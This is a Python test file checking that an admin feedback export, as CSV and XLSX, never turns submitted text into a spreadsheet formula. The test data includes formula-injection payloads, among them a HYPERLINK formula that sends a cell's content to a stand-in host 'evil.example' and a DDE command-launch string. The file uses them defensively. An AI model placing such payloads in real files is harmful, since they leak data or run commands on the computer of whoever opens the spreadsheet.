"""The CSV export opened in a spreadsheet program never turns what a person wrote into a formula.

A spreadsheet runs a cell that starts with = + - @ as a formula. A French spreadsheet opens CSV with
`;` as the separator, so a text like `Les latrines;=1+1`, one cell in the export, becomes two cells
there, the second a formula; some programs also trim the spaces before a cell. Every text field is
quoted, and a `'` goes before = + - @ wherever a cell could start: at the start, after spaces or
quotes, after a `,` `;` tab or line break; in every column, not only the person's text.
"""

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.db import transaction
from bot.models import Feedback, Partner, Referral
from tests.admin.test_inbox_page import add_contact, add_feedback, sign_in
from tests.admin_support import make_staff

TRIGGERS = tuple("=+-@＝＋－＠")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
    "   =1+1",
    "Les latrines débordent; =1+1",
    "Les latrines débordent,=1+1",
    "Première ligne\n=1+1",
    "Première ligne\r\n  @SUM(A1:A9)",
    "+223 70 00 00 01 rappelez-moi",
    "-5 litres par jour",
    "\t=1+1",
    'Il a dit;"=1+1"',
    "＝1+1",
]
TAGS = ["=cmd|' /C calc'!A0", "eau", " -2"]
OUTCOME = "-1+1 réparé"
PARTNER = "@SUM(1+1)*cmd"


@pytest.fixture
def hostile(client, runtime):
    """One submission per hostile text, tagged with hostile tags, assigned to a staff member whose email
    starts with `=`, with a hostile outcome, referred to a partner whose name starts with `@`."""
    sign_in(client, runtime, "awa@ong.ml", "admin")
    hostile_staff = make_staff(runtime, "=1+1@ong.ml", "triage")
    contact = add_contact(runtime, "+22376543201")
    references = [add_feedback(runtime, contact, text=text, tags=TAGS)[0] for text in HOSTILE]
    with transaction(runtime.database) as db:
        partner = Partner(name=PARTNER, services=["water_sanitation"])
        db.add(partner)
        db.flush()
        for feedback in db.scalars(select(Feedback).where(Feedback.reference.in_(references))):
            feedback.assignee_id, feedback.outcome = hostile_staff, OUTCOME
            db.add(Referral(feedback_id=feedback.id, partner_id=partner.id, status="sent"))


@pytest.fixture
def exported(client, hostile):
    """The CSV export of the hostile submissions: its bytes as a spreadsheet program gets them."""
    response = client.get("/admin/export.csv")
    assert response.status_code == 200, response.text
    return response.content.decode("utf-8-sig")


def formulas(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would run, spaces (and stray quotes) before them trimmed."""
    return [cell for cell in cells if cell.lstrip(" \t\r\n\"").startswith(TRIGGERS)]


def read_as_a_spreadsheet(export: str, separator: str) -> list[list[str]]:
    """The cells of the export as a spreadsheet program splits it with `separator` (Excel's CSV rules)."""
    return list(csv.reader(io.StringIO(export, newline=""), delimiter=separator))


def test_no_cell_is_a_formula_with_commas_as_separators(exported):
    rows = read_as_a_spreadsheet(exported, ",")
    assert formulas([cell for row in rows for cell in row]) == []


def test_no_cell_is_a_formula_with_semicolons_as_separators_as_in_french_spreadsheets(exported):
    rows = read_as_a_spreadsheet(exported, ";")
    assert len(rows) > len(HOSTILE)  # the texts were split where they hold a `;`
    assert formulas([cell for row in rows for cell in row]) == []


def test_no_piece_of_any_line_is_a_formula_however_it_is_cut(exported):
    """The crudest reader: every physical line cut at every `,`, `;` and tab, quotes ignored."""
    pieces = [piece for line in exported.splitlines() for piece in re.split(r"[,;\t]", line)]
    assert formulas(pieces) == []


def test_every_field_is_quoted(exported):
    one_line_rows = [line for line in exported.split("\r\n") if line.count('"') % 2 == 0 and line]
    assert len(one_line_rows) > len(HOSTILE) // 2
    for line in one_line_rows:
        assert re.fullmatch(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*', line), line


def test_the_persons_words_are_all_there(exported):
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    unmarked = {re.sub(r"'(?=[=+\-@＝＋－＠])", "", row["text"]) for row in rows}
    assert unmarked == set(HOSTILE)
    assert {row["assignee"] for row in rows} == {"'=1+1@ong.ml"}
    assert {row["tags"] for row in rows} == {"'=cmd|' /C calc'!A0;eau; '-2"}


def test_the_outcome_and_the_partner_are_kept_from_running_too(exported):
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    assert {row["outcome"] for row in rows} == {"'" + OUTCOME}
    assert {row["referral_partner"] for row in rows} == {"'" + PARTNER}


def test_in_the_xlsx_every_text_is_a_text_cell_never_a_formula(client, hostile):
    """An XLSX cell says what it holds: every text is stored as one, word for word."""
    response = client.get("/admin/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert cells and all(cell.data_type == "s" for cell in cells)
    by_column = {sheet.cell(1, index).value: index for index in range(1, sheet.max_column + 1)}
    texts = {sheet.cell(row, by_column["Text"]).value for row in range(2, sheet.max_row + 1)}
    assert texts == {text.replace("\r\n", "\n") for text in HOSTILE}  # XML reads a line break as \n
    assert {sheet.cell(row, by_column["Referred to"]).value for row in range(2, sheet.max_row + 1)} == {PARTNER}
